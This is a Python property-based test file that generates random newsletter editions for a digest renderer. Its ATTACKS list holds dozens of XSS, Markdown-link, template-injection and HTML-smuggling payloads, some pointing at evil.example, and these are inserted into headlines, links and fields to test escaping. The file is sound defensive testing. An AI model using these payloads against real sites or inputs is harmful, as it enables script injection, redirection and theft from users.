"""Random editions with strings that were made to break out."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime

from hypothesis import strategies as st

from digest.model import (
    KINDS,
    QUALIFIERS,
    STATUSES,
    Claim,
    Deal,
    Difference,
    Edition,
    Figure,
    Link,
    Money,
    Piece,
    Section,
    Since,
    SourceNote,
    Stated,
    Voices,
    Watch,
)
from tests import editions

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://pic.example/a.png)',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://ok.example/ 'a\" onclick=\"alert(1)')",
    '[x](https://ok.example/"onclick="alert(1))',
    "<javascript:alert(1)>",
    "<https://ok.example/\"onclick='alert(1)'>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=q></form>",
    "<style>*{background:url(https://evil.example/t.gif)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!-- --><script>alert(1)</script> -->",
    "]]><script>alert(1)</script>",
    "</mj-text></mj-column><mj-raw><script>alert(1)</script></mj-raw>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7*7 }} {% include 'email.css' %} {# x #} ${7*7} #{7*7}",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
)

_pieces_of_text = st.one_of(
    st.sampled_from(ATTACKS + editions.HOSTILE),
    st.text(max_size=60),
    st.text(alphabet="ab *_`[]()<>#|!\\&;-+=.1~{}%\"'\n", max_size=60),
)
texts = st.lists(_pieces_of_text, min_size=1, max_size=3).map(" ".join)
"""Text that is hostile, random, or made of what means something in Markdown and HTML."""

headlines = texts.filter(lambda text: bool(" ".join(text.split())))

addresses = st.one_of(
    st.just(""),
    st.text(max_size=30).map(lambda path: f"https://news.example/{path}"),
    st.text(alphabet="ab()[]<>'\"*_&;=?#%~ ", max_size=20).map(lambda path: f"https://news.example/{path}"),
)
"""Web addresses with whatever a feed may put into them, and none."""

_links = st.builds(Link, name=texts, url=addresses)


_names = st.lists(texts, max_size=2).map(tuple)
_voices = st.builds(Voices, _names, _names, _names, _names)
_changes = st.sampled_from(("", "developed", "corrected", "closed"))
_since = st.builds(Since, st.just("2025-W20"), st.integers(1, 99), texts, texts, _changes)
_roundups = st.builds(Link, name=texts, url=addresses)


_money = st.builds(
    Money,
    st.floats(0, 1e15, allow_nan=False),
    st.sampled_from(("USD", "EUR", "INR", "XTS")),
    st.sampled_from(QUALIFIERS),
)
_deals = st.builds(
    Deal,
    st.sampled_from(KINDS),
    texts | st.just(""),
    st.lists(texts, max_size=5).map(tuple),
    st.none() | _money,
    st.none() | _money,
    st.none() | st.floats(0, 100),
    texts | st.just(""),
    st.sampled_from(STATUSES),
)
_watch = st.builds(Watch, texts, st.just("2025-W20"), st.integers(0, 99))


@st.composite
def _reckoned(draw: st.DrawFn, piece: Piece) -> Piece:
    """`piece` with any deals, and with any differences and claims of its reports and of strangers."""
    if not piece.story:
        return piece
    known = st.sampled_from([entry.id for entry in (*piece.story.entries, *piece.story.copies)] + ["nobody"])
    differences = st.builds(
        Difference, texts, st.lists(st.builds(Stated, known, texts, texts), max_size=4).map(tuple)
    )
    sizes = st.floats(0, 1e15, allow_nan=False)
    figures = st.builds(Figure, st.just("money"), sizes, st.just("USD"), st.just(0), st.just(0))
    companies = st.sampled_from(ATTACKS[:4]) | texts
    claims = st.builds(
        Claim, known, texts, figures, st.sampled_from(("revenue", "fine", "amount")), companies
    )
    story = replace(
        piece.story,
        differences=tuple(draw(st.lists(differences, max_size=2))),
        claims=tuple(draw(st.lists(claims, max_size=4))),
    )
    return replace(piece, story=story, deals=tuple(draw(st.lists(_deals, max_size=3))))


@st.composite
def _judged(draw: st.DrawFn, piece: Piece, others: tuple[str, ...]) -> Piece:
    """`piece` with anything that the judgement may say of it; `others` are the stories around it."""
    if not piece.story or not draw(st.booleans()):
        return piece
    lead, *further = piece.story.entries
    told = replace(
        piece.story,
        entries=(replace(lead, within=draw(st.none() | _roundups)), *further),
        related=tuple(draw(st.lists(st.sampled_from(others), max_size=2))),
        voices=draw(_voices),
        since=draw(st.none() | _since),
    )
    return replace(piece, story=told)


@st.composite
def _sections(draw: st.DrawFn) -> Section:
    numbers = draw(st.lists(st.integers(1, 10**6), unique=True, max_size=4))
    pieces = []
    for number in numbers:
        made = editions.piece(draw(headlines), draw(st.one_of(st.just(""), texts)), draw(addresses), number)
        pieces.append(editions.changed(made, also=tuple(draw(st.lists(_links, max_size=3)))))
    ids = tuple(made.id for made in pieces)
    judged = tuple(draw(_reckoned(draw(_judged(made, ids)))) for made in pieces)
    return Section(draw(st.sampled_from(("deals", "labor", "own", "x-y"))), draw(texts), "", judged)


@st.composite
def random_editions(draw: st.DrawFn) -> Edition:
    """Editions of up to three sections; every text may be hostile."""
    notes = st.builds(SourceNote, texts, st.integers(0, 99), st.integers(0, 9), st.one_of(st.just(""), texts))
    return editions.edition(
        rooms=tuple(draw(st.lists(_sections(), max_size=3))),
        title=draw(texts),
        tagline=draw(texts),
        language=draw(st.sampled_from(("en", "de", "ar", "he-IL"))),
        subject=draw(texts),
        preheader=draw(texts),
        intro=draw(texts),
        sources=tuple(draw(st.lists(notes, max_size=3))),
        built_at=draw(st.integers(10**9, 4 * 10**9).map(lambda at: datetime.fromtimestamp(at, UTC))),
        sample=draw(st.booleans()),
        watch=tuple(draw(st.lists(_watch, max_size=2))),
    )
